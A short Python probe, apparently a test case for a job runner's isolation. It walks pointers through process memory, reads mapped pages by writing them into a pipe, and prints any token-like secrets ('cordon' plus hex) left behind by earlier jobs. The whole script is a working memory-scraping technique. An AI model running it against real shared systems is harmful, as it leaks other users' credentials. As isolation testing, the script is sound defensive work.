# Tries: to find what earlier jobs left in the memory that it inherited from the runner: reads every
# mapping that any pointer in known ones leads to.
# Stopped by: the runner wipes what it held of a job, and never parses a job's values itself.
# Bare: yes
import array
import collections
import ctypes
import fcntl
import os
import re
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.sbrk.restype = ctypes.c_ulong
PAGE, CHUNK, SECONDS, F_SETPIPE_SZ = 4096, 1 << 20, 3, 1031
reading, writing = os.pipe()
fcntl.fcntl(writing, F_SETPIPE_SZ, CHUNK)
looks_secret = re.compile(rb"cordon[0-9a-f]{24}")


def bytes_at(address, size):
    """As far as something is mapped there: write(2) stops where it is not, instead of dying."""
    got = libc.write(writing, ctypes.c_void_p(address), ctypes.c_ulong(size))
    return os.read(reading, got) if got > 0 else b""


end = time.monotonic() + SECONDS
queue = collections.deque(address // PAGE for address in (
    ctypes.c_ulong.in_dll(libc, "environ").value, libc.sbrk(0) - PAGE, id(context), id(None),
    ctypes.addressof(ctypes.c_int()), ctypes.cast(libc.malloc, ctypes.c_void_p).value,
    ctypes.cast(ctypes.pythonapi.Py_IncRef, ctypes.c_void_p).value))
seen, total = set(), 0
while queue and time.monotonic() < end:
    page = queue.popleft()
    if page in seen:
        continue
    seen.add(page)
    while page - 1 not in seen and bytes_at((page - 1) * PAGE, PAGE):
        page -= 1
    while text := bytes_at(page * PAGE, CHUNK):
        total += len(text)
        seen.update(range(page, page + len(text) // PAGE))
        for match in looks_secret.finditer(text):
            print("found", match[0].decode(), text[match.end():match.end() + 99])
        if text.count(0) < len(text):
            whole = text[:len(text) // 8 * 8]
            near = {value >> 12 for value in set(array.array("Q", whole))}
            queue += [one for one in near - seen if 256 < one < 1 << 35]
        page += len(text) // PAGE or 1
print(total >> 20, "MB read,", len(queue), "pointers to go")
